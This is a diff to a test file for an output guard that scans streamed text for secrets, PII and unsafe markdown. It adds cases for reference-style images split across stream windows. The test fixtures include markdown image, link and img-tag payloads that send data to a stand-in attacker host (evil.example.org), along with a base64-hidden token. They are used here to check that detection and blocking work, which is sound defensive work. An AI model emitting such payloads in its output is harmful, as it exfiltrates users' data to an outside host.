@@ -5,7 +5,7 @@ import { dedupe, type Finding } from "./finding.js";
 import { findPii } from "./pii.js";
 import { findSecrets } from "./secrets.js";
 import { StreamScanner } from "./stream.js";
-import { findUnsafeOutput } from "./output.js";
+import { findUnsafeOutput, ReferenceImages } from "./output.js";
 import { DEFAULT_GUARD_POLICY, Guard, streamHoldBack } from "./pipeline.js";
 import { findMarkedSecrets } from "./redact.js";
 
@@ -72,11 +72,12 @@ describe("streaming scan", () => {
 
 describe("streaming with the guard's adaptive hold-back", () => {
   const MARKED = ["project blue heron", "Zx9-internal"];
-  const all = (t: string): Finding[] =>
+  // Reference images meet their definitions across windows: a stream's windows share one record.
+  const all = (t: string, offset = 0, references = new ReferenceImages()): Finding[] =>
     dedupe([
       ...findSecrets(t),
       ...findPii(t),
-      ...findUnsafeOutput(t, { allowedHosts: ["docs.example.com"] }),
+      ...findUnsafeOutput(t, { allowedHosts: ["docs.example.com"], references, offset }),
       ...findMarkedSecrets(t, MARKED),
       ...wholeToken(t),
     ]);
@@ -109,6 +110,9 @@ describe("streaming with the guard's adaptive hold-back", () => {
     `![a [b] c\n${"d ".repeat(150)}](https://evil.example.org/p.png?d=Zq8vN2rT5wX7pL4mK3sD9fG1) `,
     "[![x](https://evil.example.org/p.png)](https://docs.example.com) ",
     "![a `]` b](https://evil.example.org/p.png) ",
+    // A reference image and its definition, in either order and far apart.
+    "![chart][c] ",
+    "\n\n[c]: https://evil.example.org/c.png\n\n",
     "[click]( https://evil.example.org/c?q=secret-data ) ",
     '<img alt="x"  src = "https://evil.example.org/i.png?q=1"> ',
     "<script   src=x></script> ",
@@ -143,22 +147,47 @@ describe("streaming with the guard's adaptive hold-back", () => {
     `cfg:${Buffer.from(`${"# settings for the deploy job\n".repeat(12)}GITHUB_TOKEN=ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5\n`).toString("base64url")} `,
   ];
 
+  const streamed = (longest: number) => {
+    const references = new ReferenceImages();
+    return new StreamScanner(
+      (t, offset) => all(t, offset, references),
+      (pending) => streamHoldBack(pending, longest),
+      16,
+    );
+  };
+
   it("releases the same text and findings as a whole-text scan for any chunking, and never cuts through a finding (property)", () => {
     const longest = Math.max(...MARKED.map((m) => m.length));
     fc.assert(
       fc.property(
         fc.array(fc.constantFrom(...CONSTRUCTS), { minLength: 1, maxLength: 40 }),
         fc.array(fc.integer({ min: 1, max: 61 }), { minLength: 1, maxLength: 50 }),
-        (pieces, sizes) =>
-          streamsLikeWhole(
-            pieces.join(""),
-            sizes,
-            all,
-            new StreamScanner(all, (pending) => streamHoldBack(pending, longest), 16),
-          ),
+        (pieces, sizes) => streamsLikeWhole(pieces.join(""), sizes, (t) => all(t), streamed(longest)),
       ),
       { numRuns: 300 },
     );
+  });
+
+  it("flags a reference image and its outside definition thousands of characters apart, either way round", () => {
+    const prose = "The capital of France is Paris, and it has been for centuries. ".repeat(80); // 5,040 chars
+    const image = "![chart][c] ";
+    const definition = "\n\n[c]: https://evil.example.org/c.png\n\n";
+    for (const text of [image + prose + definition, definition + prose + image]) {
+      assert.equal(all(text).filter((f) => f.type === "external_image").length, 1);
+      streamsLikeWhole(text, [7, 61, 3], (t) => all(t), streamed(0));
+      // Through the guard (unsafe output blocks by default): the stream is cut before the second one leaves.
+      const guarded = new Guard().stream({ direction: "output" });
+      let sent = "";
+      let blocked = false;
+      for (let i = 0; i < text.length && !blocked; i += 7) {
+        const r = guarded.push(text.slice(i, i + 7));
+        sent += r.text;
+        blocked = r.blocked;
+      }
+      if (!blocked) blocked = guarded.end().blocked;
+      assert.ok(blocked);
+      assert.ok(!sent.includes(text.startsWith(image) ? "[c]:" : image.trim()), "the second never left");
+    }
   });
 
   it("streams ordinary prose: all but the last few hundred characters go out before the end", () => {
